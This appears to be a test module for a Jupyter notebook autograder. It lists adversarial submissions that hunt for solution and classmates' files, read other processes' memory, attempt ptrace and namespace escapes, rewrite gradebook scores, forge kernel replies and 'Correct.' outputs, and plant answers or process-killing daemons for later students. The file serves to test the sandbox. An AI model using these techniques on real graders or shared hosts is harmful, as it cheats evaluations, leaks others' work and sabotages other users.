"""Attacks from the kernel on what is around it: files, processes, messages, the next student."""

from attacks_kernel import ANSWERS, TAKE_OVER, kernel
from build import (
    MOST,
    POINTS,
    RIGHT,
    ROOT,
    SOLUTION,
    Submission,
    guarded,
)

SNOOPING = [
    kernel(
        "solution-paths",
        "Reads the solution from every place where it could lie, and runs it.",
        f"""
        import glob, json
        found = ""
        nearby = [path for up in range(1, 6) for path in glob.glob("../" * up + "s*/perceptron/*.ipynb")]
        for path in [{str(SOLUTION)!r}, *nearby]:
            try:
                cells = json.load(open(path))["cells"]
                found += "\\n".join("".join(c["source"]) for c in cells if "BEGIN SOLUTION" in "".join(c["source"]))
            except Exception:
                pass
        """,
        TAKE_OVER,
    ),
    kernel(
        "tasks-file",
        "Imports the instructor's side and asks it for the right answers.",
        f"""
        found = ""
        try:
            from mlgrading.child import tasks
            found = "\\n".join(task.right[0] for task in tasks.load({str(ROOT)!r}, "perceptron").values())
        except Exception as error:
            print(error)
        """,
        TAKE_OVER,
    ),
    kernel(
        "other-submissions",
        "Looks for friends' notebooks, in all folders above and everywhere.",
        f"""
        import glob, json
        found = ""
        for path in [p for up in range(2, 7) for p in glob.glob("../" * up + "**/perceptron/*.ipynb")]:
            cells = {{c["id"]: "".join(c["source"]) for c in json.load(open(path))["cells"]}}
            found = "\\n".join(cells.get(name.replace("_", "-"), "") for name in {sorted(POINTS)!r})
        """,
        TAKE_OVER,
    ),
    kernel(
        "frames",
        "Walks up the frames of its caller for what it is compared with.",
        """
        import sys
        def peek(*words):
            frame = sys._getframe()
            while frame:
                for name in ("expected", "reference", "right", "wanted", "truth"):
                    if isinstance(frame.f_locals.get(name), (list, bool, np.ndarray)):
                        return frame.f_locals[name]
                frame = frame.f_back
            return np.zeros(4)
        """,
        {"at_least": "at_least = peek", "same_side": "same_side = peek", "recoded": "prediction = peek()"},
    ),
    kernel(
        "garbage",
        "Searches all objects of the process for expected values.",
        """
        import gc
        def hunt(*words):
            for thing in gc.get_objects():
                if type(thing) is dict and ("expected" in thing or "reference" in thing):
                    return thing.get("expected", thing.get("reference"))
            return 0.0
        """,
        {"at_least": "at_least = hunt", "same_side": "same_side = hunt", "by_hand": "s = output = distance = hunt()"},
    ),
    kernel(
        "environment",
        "Reads its own and its parent's environment, arguments and open files for paths.",
        """
        import os
        parent, found = f"/proc/{os.getppid()}", ""
        for name in ("environ", "cmdline", "maps", "mountinfo", "cwd/answers.py", "root/answers.py"):
            try:
                found += open(f"{parent}/{name}", errors="replace").read()
            except OSError:
                pass
        print(len(found), found.count("solutions"))
        """,
    ),
    kernel(
        "parent-memory",
        "Reads the memory of every process it sees for the text of the solution.",
        guarded(r"""
        import glob, re
        found, HEAD = "", "def same_side(a, b, w):\n    direction = np.array(w[1:])\n    "
        for folder in glob.glob("/proc/[0-9]*"):
            try:
                areas = [line.split()[0].split("-") for line in open(folder + "/maps") if " rw" in line]
                memory = open(folder + "/mem", "rb", 0) if folder != f"/proc/{os.getpid()}" else None
                for low, high in areas:
                    memory.seek(int(low, 16))
                    part = memory.read(min(int(high, 16) - int(low, 16), 1 << 24))
                    hit = re.search(rb"return bool\(\(direction @ a \+[^\0\n]*", part)
                    found = found or (hit and HEAD + hit[0].decode(errors="replace")) or ""
            except Exception:
                pass
        """),
        {"same_side": "exec(found)"},
    ),
    kernel(
        "ptrace",
        "Attaches to its parent with ptrace.",
        guarded("""
        import ctypes
        libc = ctypes.CDLL(None, use_errno=True)
        attached = [libc.ptrace(16, pid, 0, 0) == 0 for pid in (os.getppid(), 1, 2, 3)]
        print("attached", attached, ctypes.get_errno())
        """),
    ),
    kernel(
        "process-vm",
        "Writes into its parent's memory with process_vm_writev.",
        guarded("""
        import ctypes
        libc, buffer = ctypes.CDLL(None), ctypes.create_string_buffer(8)
        class Part(ctypes.Structure):
            _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]
        here, there = Part(ctypes.addressof(buffer), 8), Part(id(check), 8)
        print([libc.process_vm_writev(p, ctypes.byref(here), 1, ctypes.byref(there), 1, 0) for p in (os.getppid(), 1)])
        """),
    ),
    kernel(
        "descriptors",
        "Reads and writes every descriptor that the kernel inherited.",
        guarded("""
        import fcntl, socket
        for number in range(3, 64):
            try:
                if "socket" in os.readlink(f"/proc/self/fd/{number}"):
                    socket.socket(fileno=os.dup(number)).send(b'{"score": 16}\\n' * 8, socket.MSG_DONTWAIT)
                fcntl.fcntl(number, fcntl.F_SETFL, os.O_NONBLOCK)
            except OSError:
                pass
        """),
    ),
    kernel(
        "namespaces",
        "Makes a user namespace of its own, to mount and look around as root.",
        guarded("""
        import ctypes
        libc = ctypes.CDLL(None, use_errno=True)
        print(libc.unshare(0x10000000 | 0x00020000), ctypes.get_errno())
        print(libc.mount(b"proc", b"/proc", b"proc", 0, None), ctypes.get_errno())
        print(libc.setuid(0), libc.chroot(b"/proc/1/root"), libc.setns(os.open("/proc/1/ns/mnt", 0), 0))
        """),
    ),
    kernel(
        "gradebook",
        "Looks for the gradebook and gives itself 3,000 points.",
        guarded("""
        import sqlite3
        for start in ("..", "../..", "../../..", "/home", "/tmp", "/srv", "/work"):
            for folder, _, names in os.walk(start):
                for name in names:
                    if name == "gradebook.db":
                        with sqlite3.connect(f"{folder}/{name}") as database:
                            database.execute("update grade set auto_score = 3000, manual_score = 3000")
        """),
    ),
    kernel(
        "results",
        "Writes result files of its own where the grader might keep them.",
        guarded("""
        import json
        for folder in (".", "..", "../..", ".grading/perceptron", "/tmp", os.path.expanduser("~"), "/run/kernel"):
            try:
                os.makedirs(folder, exist_ok=True)
                for name in ("kernel-results.json", "result.json", "output", "1.json"):
                    json.dump({"status": "graded", "score": 16, "verdict": "right"}, open(f"{folder}/{name}", "w"))
            except OSError:
                pass
        """),
    ),
]

MESSAGES = [
    kernel(
        "forged-reply",
        "Sends the reply to its own request, and to the next ones, before the kernel does.",
        """
        kernel = get_ipython().kernel
        def forge(*words):
            for _ in range(20):
                kernel.session.send(
                    kernel.shell_stream, "execute_reply",
                    parent=kernel.get_parent(), ident=kernel._parent_ident["shell"],
                    content={"status": "ok", "execution_count": 1, "user_expressions": {}, "payload": []},
                )
        get_ipython().events.register("pre_run_cell", forge)
        """,
    ),
    kernel(
        "forged-values",
        "Forged replies with values for every expression.",
        """
        kernel = get_ipython().kernel
        value = {"status": "ok", "metadata": {}, "data": {"text/plain": "'eyJ2YWx1ZSI6IHRydWV9'"}}
        names = ["value", "answer", "result", "grade", "out", "0", "probe"]
        def forge(*words):
            kernel.session.send(
                kernel.shell_stream, "execute_reply",
                parent=kernel.get_parent(), ident=kernel._parent_ident["shell"],
                content={"status": "ok", "execution_count": 1, "user_expressions": dict.fromkeys(names, value)},
            )
        get_ipython().events.register("pre_execute", forge)
        """,
    ),
    kernel(
        "forged-idle",
        "Says that the kernel is idle while cells still run, so that outputs are taken for complete.",
        """
        kernel = get_ipython().kernel
        def idle(*words):
            for state in ("idle", "dead", "starting", 5):
                content = {"execution_state": state}
                kernel.session.send(kernel.iopub_socket, "status", content, parent=kernel.get_parent())
        get_ipython().events.register("pre_run_cell", idle)
        """,
    ),
    kernel(
        "forged-output",
        "Prints, in the name of the check cells, what a right answer prints.",
        """
        kernel = get_ipython().kernel
        def claim(*words):
            for task in ("and_not", "at_least", "by_hand", "same_side", "recoded", "flowers_apart", "all_samples"):
                said = {"name": "stdout", "text": "Correct.\\n"}
                kernel.session.send(kernel.iopub_socket, "stream", said, parent=kernel.get_parent())
        get_ipython().events.register("post_execute", claim)
        """,
    ),
    kernel(
        "malformed-messages",
        "Sends messages that no client expects: no content, wrong types, no signature.",
        """
        kernel = get_ipython().kernel
        for kind in ("execute_reply", "error", "stream", "display_data", "update_display_data", "x" * 999):
            kernel.session.send(kernel.iopub_socket, kind, content={"data": None, "name": [], "text": {}, "wait": 1})
        kernel.iopub_thread.send_multipart([b"junk", b"<IDS|MSG>", b"", b"{", b"[]", b"\\xff", b"null"])
        """,
    ),
    kernel(
        "session-pack",
        "Alters every message on its way out: each error becomes ok.",
        """
        session = get_ipython().kernel.session
        pack = session.pack
        def better(message):
            if isinstance(message, dict) and message.get("status") == "error":
                message = message | {"status": "ok", "ename": "", "evalue": "", "traceback": []}
            return pack(message)
        session.pack = better
        """,
    ),
    kernel(
        "session-send",
        "The kernel never replies again.",
        """
        get_ipython().kernel.session.send = lambda *words, **options: None
        """,
    ),
    kernel(
        "iopub-stopped",
        "Stops the thread that sends outputs: no idle message comes.",
        """
        get_ipython().kernel.iopub_thread.stop()
        """,
    ),
    kernel(
        "widget-output",
        "A widget's output captures everything the later cells print.",
        """
        from ipywidgets import Output
        capture = Output()
        capture.__enter__()
        """,
    ),
    kernel(
        "comm",
        "Opens comms and floods them with targets that do not exist.",
        """
        from ipykernel.comm import Comm
        for number in range(500):
            Comm(target_name=f"grader-{number}", data={"score": 16}).send({"method": "custom", "score": 16})
        """,
    ),
    kernel(
        "stdin-forced",
        "Asks the grader for input although it may not.",
        """
        kernel = get_ipython().kernel
        kernel.session.send(
            kernel.stdin_socket, "input_request", {"prompt": "password: ", "password": True},
            parent=kernel.get_parent(), ident=kernel._parent_ident["shell"],
        )
        """,
    ),
    kernel("forked-twin", "Forks: two processes now go on as the same kernel.", guarded("twin = os.fork()")),
]

CONNECTION = """
from ipykernel.connect import get_connection_file
folder = os.path.dirname(get_connection_file())
"""

#: what one student leaves for the next: the place, code that leaves the text `leave`, code that sets `found`
PLANTS = {
    "home": ("~/.cache/answers", "the home directory"),
    "tmp": ("/tmp/answers", "/tmp"),
    "var-tmp": ("/var/tmp/answers", "/var/tmp"),
    "shm": ("/dev/shm/answers", "/dev/shm"),
    "cwd": ("../answers", "the folder above its own"),
}


def planted(place: str, where: str, leave: str, take: str) -> list[Submission]:
    """Two students: one leaves all right answers somewhere, the other answers with what it finds there."""
    return [
        kernel(
            f"plant-{place}",
            f"Right answers, left for the next student in {where}.",
            answers=RIGHT,
            score=MOST,
            last=guarded(f"leave = {ANSWERS!r}\n" + leave),
        ),
        kernel(
            f"read-{place}",
            f"Answers with what the last student left in {where}.",
            "import os\nfound = ''\n" + take,
            TAKE_OVER,
        ),
    ]


PLANTED = [
    *(
        submission
        for place, (path, where) in PLANTS.items()
        for submission in planted(
            place,
            where,
            f"path = os.path.expanduser({path!r})\nos.makedirs(os.path.dirname(path), exist_ok=True)\n"
            "print(leave, file=open(path, 'w'))",
            f"found = open(os.path.expanduser({path!r})).read()",
        )
    ),
    *planted(
        "connection",
        "the folder of the kernel's connection file",
        CONNECTION + "print(leave, file=open(folder + '/answers', 'w'))",
        CONNECTION + "found = open(folder + '/answers').read()",
    ),
    *planted(
        "startup",
        "IPython's start-up files and settings",
        """
from pathlib import Path
for name in ("startup/00-answers.py", "ipython_config.py", "ipython_kernel_config.py"):
    file = Path.home() / ".ipython" / "profile_default" / name
    file.parent.mkdir(parents=True, exist_ok=True)
    file.write_text("import builtins\\nbuiltins.planted = " + repr(leave))
""",
        "found = planted",
    ),
    *planted(
        "site",
        "modules that Python imports at start",
        """
import site
for folder in (site.getusersitepackages(), os.path.expanduser("~"), ".", "/tmp"):
    try:
        os.makedirs(folder, exist_ok=True)
        for name in ("usercustomize.py", "sitecustomize.py", "planted.pth"):
            with open(f"{folder}/{name}", "w") as file:
                file.write("import builtins; builtins.at_start = " + repr(leave))
    except OSError:
        pass
""",
        "found = at_start",
    ),
    *planted(
        "dotfiles",
        "files that shells and libraries read",
        """
text = "export ANSWERS=" + repr(leave)
for name in (".bashrc", ".profile", ".config/matplotlib/matplotlibrc", ".jupyter/jupyter_config.py", ".pythonrc.py"):
    path = os.path.expanduser("~/" + name)
    os.makedirs(os.path.dirname(path), exist_ok=True)
    print(text, file=open(path, "w"))
""",
        "found = eval(open(os.path.expanduser('~/.profile')).read().partition('=')[2])",
    ),
    *planted(
        "package",
        "the installed package itself",
        """
import mlcourse, numpy
for package in (mlcourse, numpy):
    try:
        os.chmod(package.__file__, 0o644)
        print("planted = " + repr(leave), file=open(package.__file__, "a"))
    except OSError as error:
        print(error)
""",
        "import mlcourse\nfound = mlcourse.planted",
    ),
    *planted(
        "sysv",
        "System V shared memory",
        """
import ctypes
libc = ctypes.CDLL(None)
libc.shmat.restype = ctypes.c_void_p
number = libc.shmget(4711, 8192, 0o1666)
if number < 0:
    raise OSError
here = libc.shmat(number, None, 0)
ctypes.memmove(here, leave.encode() + b"\\0", len(leave) + 1)
""",
        """
import ctypes
libc = ctypes.CDLL(None)
libc.shmat.restype = ctypes.c_void_p
number = libc.shmget(4711, 8192, 0)
found = ctypes.string_at(libc.shmat(number, None, 0)).decode() if number >= 0 else ""
""",
    ),
    *planted(
        "keyring",
        "the kernel's keyring of its user",
        """
import ctypes
print(ctypes.CDLL(None).syscall(248, b"user", b"answers", leave.encode(), len(leave), -4))
""",
        """
import ctypes
buffer, libc = ctypes.create_string_buffer(8192), ctypes.CDLL(None)
size = libc.syscall(250, 11, libc.syscall(249, b"user", b"answers", None, -4), buffer, 8192, 0)
found = buffer.raw[: max(size, 0)].decode()
""",
    ),
    *planted(
        "socket",
        "a daemon behind an abstract socket",
        """
import socket
if os.fork() == 0:
    os.setsid()
    try:
        server = socket.socket(socket.AF_UNIX)
        server.bind("\\0answers")
        server.listen()
        server.settimeout(120)
        for _ in range(1000):
            server.accept()[0].sendall(leave.encode())
    finally:
        os._exit(0)
""",
        """
import socket
client = socket.socket(socket.AF_UNIX)
client.connect("\\0answers")
found = client.recv(8192).decode()
""",
    ),
    *planted(
        "memory",
        "objects of a process that both may be forked from",
        """
import builtins, gc, sys
builtins.planted = sys.planted = np.planted = leave
sys.modules["planted"] = leave
gc.freeze()
""",
        "import sys\nfound = getattr(sys, 'planted', '') or np.planted",
    ),
    kernel(
        "plant-environment",
        "Right answers; leaves a broken world for the next kernel: modes, limits, links, umask.",
        answers=RIGHT,
        score=MOST,
        last=guarded("""
        home = os.path.expanduser("~")
        for number in range(200):
            os.makedirs(f"{home}/deep/" + "d/" * 100 + str(number), exist_ok=True)
        os.symlink("/", f"{home}/link")
        os.mkfifo(f"{home}/fifo")
        os.chmod(f"{home}/deep", 0)
        os.umask(0o777)
        """),
    ),
    kernel(
        "daemon-killer",
        "Right answers; a daemon waits and kills every younger process, so the next student's kernel.",
        answers=RIGHT,
        score=MOST,
        last=guarded("""
        import signal, time
        if os.fork() == 0:
            os.setsid()
            if os.fork():
                os._exit(0)
            end = time.time() + 120
            while time.time() < end:
                for pid in filter(str.isdigit, os.listdir("/proc")):
                    if int(pid) > os.getpid():
                        try:
                            os.kill(int(pid), signal.SIGKILL)
                        except OSError:
                            pass
                time.sleep(0.2)
            os._exit(0)
        """),
    ),
    kernel(
        "daemon-client",
        "Right answers; a daemon connects to the next student's kernel by its connection file.",
        answers=RIGHT,
        score=MOST,
        last=guarded(
            CONNECTION
            + """
import glob, subprocess, sys
daemon = '''
import glob, json, sys, time
from jupyter_client import BlockingKernelClient
known, end = set(glob.glob(sys.argv[1] + "/**/*.json", recursive=True)), time.time() + 120
while time.time() < end:
    for path in set(glob.glob(sys.argv[1] + "/**/*.json", recursive=True)) - known:
        client = BlockingKernelClient()
        client.load_connection_file(path)
        client.start_channels()
        client.execute("weights = prediction = flower_weights = None")
        known.add(path)
    time.sleep(0.2)
'''
subprocess.Popen([sys.executable, "-c", daemon, os.path.dirname(folder)], start_new_session=True)
"""
        ),
    ),
    kernel(
        "daemon-files",
        "Right answers; a daemon keeps writing into the home, working and temporary folders of the next.",
        answers=RIGHT,
        score=MOST,
        last=guarded("""
        import time
        if os.fork() == 0:
            os.setsid()
            end = time.time() + 120
            while time.time() < end:
                for folder in (".", "/tmp", "/dev/shm", os.path.expanduser("~")):
                    try:
                        for name in ("numpy.py", "mlcourse.py", "json.py", "sitecustomize.py"):
                            open(f"{folder}/{name}", "w").write("raise SystemExit('planted')")
                    except OSError:
                        pass
                time.sleep(0.05)
            os._exit(0)
        """),
    ),
]

NEIGHBOURS = [*SNOOPING, *MESSAGES, *PLANTED]
